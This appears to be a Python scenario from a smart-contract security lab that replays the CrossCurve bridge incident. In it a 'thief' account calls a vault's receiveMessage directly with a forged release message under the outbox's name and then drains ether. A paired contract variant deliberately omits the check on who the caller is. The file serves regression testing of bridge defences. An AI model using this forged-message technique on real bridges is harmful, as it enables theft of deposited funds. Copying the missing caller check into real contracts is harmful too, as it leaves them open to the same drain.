"""CrossCurve: whoever calls the receiving function directly is believed."""

from __future__ import annotations

from bridge.abi import ZERO_ADDRESS
from bridge.interoperable import encode_evm
from bridge.payloads import ReleaseMessage
from bridge.vaults import Vault
from chains.errors import TransactionReverted
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict

LOOT = 5 * 10**18


def attack(stage: Stage) -> Verdict:
    """A stranger hands a vault that holds ether a release of its own making, under the outbox's name."""
    with stage.world() as world:
        network = world.deployment
        entry = network.vaults[0]
        chain = world.chains[entry.chain_id]
        victim, thief = world.users[0], world.base.users[1]
        ether = next(
            asset for asset in network.assets if (asset.chain_id, asset.token) == (entry.chain_id, ZERO_ADDRESS)
        )
        victim.deposit(ether.asset, 2 * LOOT)
        books = Vault(chain, entry.vault)
        # Until the exchange has taken it, a deposit is not there to be released.
        world.run(600, lambda: 0 == books.reserved(ZERO_ADDRESS) < books.holdings(ZERO_ADDRESS))
        before = chain.balance(entry.vault)
        vault = chain.contract("CollateralVault", entry.vault)
        outbox = encode_evm(network.settlement.chain_id, network.settlement.outbox)
        release = ReleaseMessage(withdrawal_id=0, asset=ZERO_ADDRESS, amount=LOOT, recipient=thief.address)
        identifier = b"\x43" * 32
        try:
            chain.transact(vault.functions.receiveMessage(identifier, outbox, release.encode()), thief)
            chain.transact(vault.functions.drain(ZERO_ADDRESS, 1), thief)
        except TransactionReverted as refusal:
            outcome = f"refused with {refusal.error}"
        else:
            outcome = "accepted"
        lost = before - chain.balance(entry.vault)
        return Verdict(survived=lost == 0, detail=f"a direct call was {outcome}; the vault lost {lost} of {before} wei")


SCENARIO = Scenario(
    identifier="incident-43",
    title="A stranger calls the receiving function directly with a made-up message",
    group="C6",
    source="CrossCurve, 2 Feb 2026, $3M",
    attack=attack,
    twin=Twin(
        mutation="the vault does not ask whether the caller is its mailbox",
        contracts=(("CollateralVault", "vault-direct-release"),),
    ),
)
